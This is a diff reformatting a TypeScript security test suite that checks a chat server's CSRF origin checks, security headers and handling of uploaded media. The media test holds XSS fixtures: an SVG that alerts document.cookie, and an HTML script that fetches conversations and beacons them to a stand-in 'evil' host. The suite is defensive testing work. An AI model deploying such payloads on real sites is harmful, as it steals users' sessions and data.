@@ -43,11 +43,24 @@ describe('CSRF with a valid session cookie', () => {
       ['urlencoded', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'status=busy' }],
       ['text/plain', { headers: { 'content-type': 'text/plain' }, body: '{"status":"busy"}' }],
       ['text/plain json-looking with charset', { headers: { 'content-type': 'text/plain; charset=utf-8' }, body: '{"status":"busy"}' }],
-      ['multipart', { body: (() => { const f = new FormData(); f.set('status', 'busy'); return f; })() }],
+      [
+        'multipart',
+        {
+          body: (() => {
+            const f = new FormData();
+            f.set('status', 'busy');
+            return f;
+          })(),
+        },
+      ],
       ['no body at all', {}],
     ];
     for (const [name, init] of attempts) {
-      const res = await fetch(`${server.url}/api/operators/me/status`, { method: 'PUT', ...init, headers: { ...(init.headers as Record<string, string>), cookie } });
+      const res = await fetch(`${server.url}/api/operators/me/status`, {
+        method: 'PUT',
+        ...init,
+        headers: { ...(init.headers as Record<string, string>), cookie },
+      });
       expect(res.status, name).toBe(403);
       expect((await res.json()).error.code).toBe('forbidden');
     }
@@ -61,9 +74,12 @@ describe('CSRF with a valid session cookie', () => {
   it('[§10 csrf] JSON from a foreign Origin, Origin: null or Sec-Fetch-Site: cross-site is refused; the same origin passes', async () => {
     const before = await status();
     const next = before === 'busy' ? 'available' : 'busy';
-    const send = (headers: Record<string, string>) => fetch(`${server.url}/api/operators/me/status`, {
-      method: 'PUT', headers: { 'content-type': 'application/json', cookie, ...headers }, body: JSON.stringify({ status: next }),
-    });
+    const send = (headers: Record<string, string>) =>
+      fetch(`${server.url}/api/operators/me/status`, {
+        method: 'PUT',
+        headers: { 'content-type': 'application/json', cookie, ...headers },
+        body: JSON.stringify({ status: next }),
+      });
     for (const headers of [
       { origin: 'https://evil.example' } as Record<string, string>,
       { origin: 'null' },
@@ -83,16 +99,28 @@ describe('CSRF with a valid session cookie', () => {
 
   it('[§10 csrf] a login from a foreign page is refused (login CSRF), as is a form login', async () => {
     const body = JSON.stringify({ email: 'csrf@example.test', password: 'pw-csrf@example.test-secret' });
-    const foreign = await fetch(`${server.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', origin: 'https://evil.example' }, body });
+    const foreign = await fetch(`${server.url}/api/auth/login`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', origin: 'https://evil.example' },
+      body,
+    });
     expect(foreign.status).toBe(403);
     expect(foreign.headers.get('set-cookie')).toBeNull();
-    const form = await fetch(`${server.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'email=csrf%40example.test&password=x' });
+    const form = await fetch(`${server.url}/api/auth/login`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: 'email=csrf%40example.test&password=x',
+    });
     expect(form.status).toBe(403);
   });
 
   it('[§10 csrf] bearer tokens are not CSRF-able (a browser never attaches them): no proof or origin needed', async () => {
     const { token } = (await operator.client.post('/api/auth/tokens', { name: 'script' })).body;
-    const res = await fetch(`${server.url}/api/conversations/x/read`, { method: 'POST', headers: { authorization: `Bearer ${token}`, origin: 'https://elsewhere.example', 'content-type': 'text/plain' }, body: '' });
+    const res = await fetch(`${server.url}/api/conversations/x/read`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${token}`, origin: 'https://elsewhere.example', 'content-type': 'text/plain' },
+      body: '',
+    });
     expect(res.status).toBe(404);
   });
 });
@@ -116,7 +144,10 @@ describe('headers', () => {
       ['404', await fetch(`${server.url}/api/conversations/nope`, { headers: { cookie } })],
       ['400', await fetch(`${server.url}/api/conversations?limit=abc`, { headers: { cookie } })],
       ['403 csrf', await fetch(`${server.url}/api/operators/me/status`, { method: 'PUT', headers: { cookie } })],
-      ['webhook 401', await fetch(`${server.url}/webhooks/meta`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })],
+      [
+        'webhook 401',
+        await fetch(`${server.url}/webhooks/meta`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
+      ],
       ['/metrics', await fetch(`${server.url}/metrics`)],
       ['/healthz', await fetch(`${server.url}/healthz`)],
       ['/readyz', await fetch(`${server.url}/readyz`)],
@@ -128,7 +159,7 @@ describe('headers', () => {
     sse.abort();
   });
 
-  it('[§11 headers] the dashboard files (/, /index.html, assets) carry script-src \'self\' without unsafe-inline, and index.html has no inline script', async () => {
+  it("[§11 headers] the dashboard files (/, /index.html, assets) carry script-src 'self' without unsafe-inline, and index.html has no inline script", async () => {
     const root = mkdtempSync(join(tmpdir(), 'sb-sec-web-'));
     mkdirSync(join(root, 'assets'), { recursive: true });
     writeFileSync(join(root, 'index.html'), '<!doctype html><div id="root"></div><script type="module" src="/assets/app-1.js"></script>');
@@ -167,7 +198,9 @@ describe('media content types', () => {
 
   it('[§10 media] SVG and HTML from a customer are attachments and sandboxed, never rendered inline; images inline with their type', async () => {
     const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>');
-    const html = Buffer.from('<!doctype html><script>fetch("/api/conversations").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))</script>');
+    const html = Buffer.from(
+      '<!doctype html><script>fetch("/api/conversations").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))</script>',
+    );
     const cases = [
       { name: 'svg', mime: 'image/svg+xml', type: 'image' as const, bytes: svg, inline: false },
       { name: 'html', mime: 'text/html', type: 'document' as const, bytes: html, inline: false },
